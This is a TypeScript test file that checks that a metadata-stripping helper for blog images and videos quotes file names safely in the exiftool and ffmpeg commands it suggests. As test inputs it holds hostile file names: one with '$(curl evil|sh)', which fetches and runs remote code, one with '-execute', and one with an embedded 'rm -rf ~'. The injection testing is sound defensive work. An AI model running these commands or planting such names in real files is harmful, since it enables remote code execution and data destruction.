import { expect, test } from 'vitest'
import { warnOfTraces } from './warn-of-traces.ts'

const mendOf = (name: string, type: Parameters<typeof warnOfTraces>[1] = 'image/jpeg') => warnOfTraces(`blogs/suv/2020/x/${name}`, type, ['place'])[0]!.mend

test('the command that is offered does what it says, whatever the file is called', () => {
  expect(mendOf('bank.jpg')).toMatch(/^make it anew with exiftool -all= -tagsfromfile @ -Orientation bank\.jpg;/)
  expect(mendOf('$(curl evil|sh).jpg')).toContain(" './$(curl evil|sh).jpg';")
  expect(mendOf('-execute.jpg')).toContain(' ./-execute.jpg;')
  expect(mendOf('film.mp4', 'video/mp4')).toContain("ffmpeg -i film.mp4 -map '0:v?' ")
  expect(mendOf('a\nrm -rf ~\n.jpg')).toMatch(/^rename it, and make it anew without;/)
})
